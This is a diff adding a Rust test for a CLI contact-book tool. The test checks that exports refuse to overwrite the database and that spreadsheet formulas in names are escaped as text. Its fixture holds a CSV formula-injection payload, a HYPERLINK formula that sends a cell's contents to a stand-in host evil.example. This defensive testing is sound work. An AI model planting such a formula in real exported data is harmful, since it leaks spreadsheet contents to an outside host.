@@ -709,3 +709,71 @@ fn import_json_names_value_and_company_and_the_cli_says_how_to_map() {
     let msg = assert_one_line_failure(&o);
     assert!(msg.contains("--map \"COLUMN=name\""), "{msg}");
 }
+
+#[test]
+fn no_export_may_overwrite_the_book_and_formulas_leave_as_text() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let db = dir.path().join("b.sqlite");
+    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
+    let before = fs::read(&db).expect("read");
+    #[cfg(unix)]
+    std::os::unix::fs::symlink(&db, dir.path().join("link.csv")).expect("symlink");
+    let dotted = dir.path().join("sub/../b.sqlite");
+    fs::create_dir(dir.path().join("sub")).expect("mkdir");
+    let wal = format!("{}-wal", p(&db));
+    for args in [
+        vec!["export", "prospects", p(&db)],
+        vec!["export", "prospects", p(&dotted)],
+        vec!["export", "calendar", &wal],
+        vec!["dossier", "Fjord Identity AS", "--out", p(&db)],
+        #[cfg(unix)]
+        vec![
+            "export",
+            "prospects",
+            dir.path().join("link.csv").to_str().expect("utf-8"),
+        ],
+    ] {
+        let mut full = vec!["--db", p(&db)];
+        full.extend(args.iter().copied());
+        let o = allybook(&full);
+        let msg = assert_one_line_failure(&o);
+        assert!(
+            msg.contains("is the alliance book itself"),
+            "{args:?}: {msg}"
+        );
+    }
+    assert_eq!(
+        fs::read(&db).expect("read"),
+        before,
+        "the book is byte-identical"
+    );
+    assert!(allybook(&["--db", p(&db), "check"]).status.success());
+
+    // A name that a spreadsheet would run as a formula is exported as text and reads back exact.
+    let hostile = dir.path().join("hostile.csv");
+    fs::write(
+        &hostile,
+        "name\n\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\"\n@SUM(1)\n",
+    )
+    .expect("write");
+    assert!(
+        allybook(&["--db", p(&db), "import", "prospects", p(&hostile)])
+            .status
+            .success()
+    );
+    let out = dir.path().join("all.csv");
+    assert!(allybook(&["--db", p(&db), "export", "prospects", p(&out)])
+        .status
+        .success());
+    let text = fs::read_to_string(&out).expect("export");
+    assert!(text.contains("\"'=HYPERLINK("), "{text}");
+    assert!(text.contains("'@SUM(1)"), "{text}");
+    assert!(!text
+        .lines()
+        .any(|l| l.starts_with('=') || l.starts_with('@')));
+    let db2 = dir.path().join("b2.sqlite");
+    let o = allybook(&["--db", p(&db2), "import", "prospects", p(&out), "--json"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let o = allybook(&["--db", p(&db2), "search", "SUM"]);
+    assert!(stdout(&o).contains("@SUM(1)"), "{}", stdout(&o));
+}
